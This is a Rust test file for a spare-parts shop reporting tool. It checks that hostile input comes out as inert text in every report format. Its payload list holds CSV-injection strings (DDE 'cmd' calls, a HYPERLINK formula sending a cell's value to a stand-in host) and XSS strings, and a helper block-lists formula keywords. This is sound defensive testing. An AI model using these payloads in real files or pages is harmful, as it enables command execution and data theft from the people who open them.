//! Texts that want to be more than text, in every text of every table of a shop, in every form of every report.

use std::fmt::Write as _;
use std::io::Cursor;
use std::path::Path;

use calamine::{Reader, Xlsx, open_workbook_from_rs};
use sparewright::job::Job;
use sparewright::report::content::{kit_report, purchase_requests, rebuild_sheets};
use sparewright::report::{
    Report, csv_of, html_of, json_of, read_back, rebuild_sheets_html, rejects_workbook, workbook_of,
};

use super::outside::parts;

/// Formulas as OWASP describes them (CSV injection: `=`, `+`, `-`, `@`, tab, carriage return), and what ends a page, a
/// sheet, a header line or an attribute (OWASP, XSS filter evasion).
const HOSTILE: [&str; 10] = [
    "=HYPERLINK(\"http://shop.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\"><img src=x onerror=alert(1)>",
    "</table></style></script><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "]]></t><f>1+1</f>&P&D [a]#'x",
    "<svg/onload=alert(1)>",
];

/// Pieces that stand in a page only where a text was not escaped.
const LIVE: [&str; 4] = ["<img", "<svg/", "<script>alert", "</style></script>"];

/// Tables of the shop with their headers.
const TABLES: [(&str, &str); 12] = [
    (
        "parts",
        "our no,designation,description,type,bore,outside diameter,width,closure,cage,material,maker,other numbers,unit of count,min stock,min stock reason,min stock date,ratings source,note",
    ),
    (
        "suppliers",
        "supplier,approved,approved for,calendar,supplier kind,order cutoff,counter hours,freight,note",
    ),
    (
        "offers",
        "supplier,our no,supplier part no,designation,description,price,currency,lead time,condition,unit of count,note",
    ),
    ("stock", "our no,bin,lot,on hand,unit of count,note"),
    ("usages", "date,our no,quantity,machine,reason,note"),
    (
        "receipts",
        "supplier,our no,ordered,promised,received,quantity,note",
    ),
    (
        "kit_lines",
        "kit,machine,assembly,line,our no,description,quantity,unit of count,task,note,no substitutes",
    ),
    ("tasks", "kit,task,hours,predecessors"),
    (
        "approvals",
        "kit,line,substitute,outcome,checks,approved by,date",
    ),
    ("other_ways", "way,our no,kit,line,hours,cost,from,note"),
    (
        "machines",
        "machine,downtime cost per hour,installed,criticality",
    ),
    ("planned", "kit,machine,planned date"),
];

/// The tables while they grow.
struct Shop(Vec<(&'static str, String)>);

impl Shop {
    /// Adds a row; `T` stands for the hostile text.
    fn row(&mut self, table: &str, text: &str, cells: &[&str]) {
        let table = self.0.iter_mut().find(|(name, _)| *name == table).unwrap();
        let quoted: Vec<String> = cells
            .iter()
            .map(|cell| if *cell == "T" { text } else { cell })
            .map(|cell| format!("\"{}\"", cell.replace('"', "\"\"")))
            .collect();
        writeln!(table.1, "{}", quoted.join(",")).unwrap();
    }

    /// Two parts of one size, on offer, on the shelf, used and received.
    fn parts(&mut self, at: usize, text: &str) {
        let (own, other) = (format!("{text} {at}"), format!("{text} other {at}"));
        let (bore, outside) = ((30 + 5 * at).to_string(), (62 + 10 * at).to_string());
        for number in [&own, &other] {
            let alias = format!("{number} alias");
            let part = [
                number,
                "T",
                "T",
                "deep groove ball bearing",
                &bore,
                &outside,
                "16",
                "T",
                "T",
                "T",
                "T",
                &alias,
                "piece",
                "2",
                "T",
                "2026-01-05",
                "T",
                "T",
            ];
            self.row("parts", text, &part);
            let theirs = format!("{number} theirs");
            let offer = [
                "T", number, &theirs, "T", "T", "4.50", "EUR", "10 days", "new", "piece", "T",
            ];
            self.row("offers", text, &offer);
            self.row("usages", text, &["2026-01-07", number, "1", "T", "T", "T"]);
        }
        let supplier = ["T", "yes", "", "T", "T", "15:00", "T", "12.00", "T"];
        self.row("suppliers", text, &supplier);
        self.row("stock", text, &[&other, "T", "T", "1", "piece", "T"]);
        let receipt = [
            "T",
            &own,
            "2025-11-03",
            "2025-11-10",
            "2025-11-12",
            "2",
            "T",
        ];
        self.row("receipts", text, &receipt);
        // A number and a date that are none are rejected rows, which quote what was found.
        self.row("stock", text, &[&own, "T", "T", "T", "T", "T"]);
        self.row("usages", text, &["T", &own, "T", "T", "T", "T"]);
    }

    /// A kit of one line with its task, a judged substitute, another way, a machine and a date.
    fn kit(&mut self, at: usize, text: &str) {
        let (own, other) = (format!("{text} {at}"), format!("{text} other {at}"));
        let line = ["T", "T", "T", "T", &own, "T", "2", "piece", "T", "T", "no"];
        self.row("kit_lines", text, &line);
        self.row("tasks", text, &["T", "T", "3", ""]);
        let outcome = if at.is_multiple_of(2) {
            "approved"
        } else {
            "did not fit"
        };
        let judged = ["T", "T", &other, outcome, "T", "T", "2026-01-05"];
        self.row("approvals", text, &judged);
        let way = ["make in house", &own, "T", "T", "30", "200.00", "T", "T"];
        self.row("other_ways", text, &way);
        self.row("machines", text, &["T", "120.00", "1", "high"]);
        self.row("planned", text, &["T", "T", "2026-04-01"]);
    }
}

/// A shop whose every text is hostile: each table once for each text.
fn write_shop(folder: &Path) {
    let tables = TABLES.map(|(name, header)| (name, format!("{header}\n")));
    let mut shop = Shop(tables.to_vec());
    for (at, text) in HOSTILE.iter().enumerate() {
        shop.parts(at, text);
        shop.kit(at, text);
    }
    for (name, text) in shop.0 {
        std::fs::write(folder.join(format!("{name}.csv")), text).unwrap();
    }
    let settings =
        "shop = \"=1+1</title><script>alert(1)</script>&P\"\nas_of = \"2026-03-09T07:30\"\n";
    std::fs::write(folder.join("shop.toml"), settings).unwrap();
}

/// Formulas that a report may hold: our own sums and products over cells and tables, without a text from outside.
fn is_ours(formula: &str) -> bool {
    ["ROUND(", "SUM(", "SUBTOTAL(109,table_"]
        .iter()
        .any(|start| formula.starts_with(start))
        && !["HYPERLINK", "cmd", "http", "EXEC", "DDE"]
            .iter()
            .any(|word| formula.contains(word))
}

fn check_workbook(name: &str, bytes: &[u8]) {
    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(bytes.to_vec())).unwrap();
    for sheet in book.sheet_names() {
        let formulas = book.worksheet_formula(&sheet).unwrap();
        for (.., formula) in formulas.used_cells().filter(|(.., text)| !text.is_empty()) {
            assert!(is_ours(formula), "{name}, {sheet}: {formula}");
        }
    }
    for (part, bytes) in parts(bytes) {
        let text = String::from_utf8_lossy(&bytes);
        assert!(
            !text.contains("TargetMode=\"External\""),
            "{name}: {part} leads outside"
        );
        for live in ["<f>1+1", "<script", "<img"] {
            assert!(!text.contains(live), "{name}: {part} holds {live}");
        }
    }
}

fn check_report(name: &str, report: &Report) {
    check_workbook(name, &workbook_of(report).unwrap());
    let page = html_of(report);
    for live in LIVE {
        assert!(!page.contains(live), "{name}: the page holds {live}");
    }
    assert_eq!(page.matches("<script").count(), 1, "{name}");
    let json: serde_json::Value = serde_json::from_slice(&json_of(report)).unwrap();
    assert!(json["sheets"].is_object(), "{name}");
    for sheet in &report.sheets {
        let bytes = csv_of(sheet);
        let text = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
        let mut reader = csv::Reader::from_reader(text);
        let marks = usize::from(sheet.has_marks);
        for (record, of) in reader.records().zip(&sheet.rows) {
            let record = record.unwrap();
            assert_eq!(
                record.len(),
                sheet.columns.len() + marks,
                "{name}, {}",
                sheet.key
            );
            for (field, value) in record.iter().skip(marks).zip(&of.cells) {
                let starts = field.chars().next().unwrap_or(' ');
                let is_number = field.parse::<f64>().is_ok();
                assert!(
                    is_number || !"=+-@\t\r".contains(starts),
                    "{name}, {}: `{field}` would run",
                    sheet.key
                );
                if let sparewright::report::model::Value::Text(words) = value {
                    assert_eq!(read_back(field), &**words, "{name}, {}", sheet.key);
                }
            }
        }
    }
}

#[test]
fn hostile_texts_come_out_as_text_in_every_form_of_every_report() {
    let folder = tempfile::tempdir().unwrap();
    write_shop(folder.path());
    let job = Job::read(folder.path(), None).unwrap();
    let planned = job.plan().unwrap();
    let report = job.report(&planned);
    let inputs = job.inputs(&planned);
    // The texts do arrive: sheets with rows, kits, requests and rejected rows are there to check.
    let filled = report.sheets.iter().filter(|sheet| !sheet.rows.is_empty());
    let filled: Vec<&str> = filled.map(|sheet| sheet.key.as_str()).collect();
    for key in [
        "order_now",
        "kits",
        "kit_lines",
        "levels",
        "data_problems",
        "rejected",
        "files",
    ] {
        assert!(filled.contains(&key), "{key} is empty: {filled:?}");
    }
    let text = String::from_utf8(json_of(&report)).unwrap();
    for hostile in HOSTILE {
        let quoted = serde_json::to_string(hostile.trim()).unwrap();
        assert!(
            text.contains(quoted.trim_matches('"')),
            "{hostile} got lost on the way"
        );
    }
    check_report("report", &report);
    let requests = purchase_requests(&inputs);
    assert!(!requests.is_empty());
    for request in &requests {
        let is_plain = |c: char| c.is_alphanumeric() || "_-".contains(c);
        assert!(
            request.file_stem.chars().all(is_plain),
            "{}",
            request.file_stem
        );
        check_report(&request.file_stem, &request.report);
    }
    let sheets = rebuild_sheets(&inputs);
    assert_eq!(sheets.len(), HOSTILE.len());
    let page = rebuild_sheets_html(&sheets, sparewright::language::Language::ENGLISH);
    for live in LIVE {
        assert!(!page.contains(live), "rebuild sheets hold {live}");
    }
    assert!(!page.contains("<script"));
    check_workbook(
        "rejects",
        &rejects_workbook(
            &job.imported.rejects,
            sparewright::language::Language::ENGLISH,
        )
        .unwrap(),
    );
    let ask = sparewright::plan::StudyAsk::default();
    for kit in 0..job.shop.kits.len() {
        if let Some(study) = job.study_kit(&job.acceptances(), kit, &ask) {
            let of_kit = kit_report(
                &job.inputs_of_kit(&job.acceptances(), &study),
                &study.study,
                &ask,
            );
            check_report("kit", &of_kit);
        }
    }
}

#[test]
fn only_our_own_formulas_are_taken_for_ours() {
    assert!(is_ours("ROUND(D5*F5,2)") && is_ours("SUBTOTAL(109,table_orders[Cost (EUR)])"));
    assert!(!is_ours("HYPERLINK(\"http://shop.example\")") && !is_ours("1+1"));
    assert!(!is_ours("SUM(1+1)*cmd|' /C calc'!A0"));
}
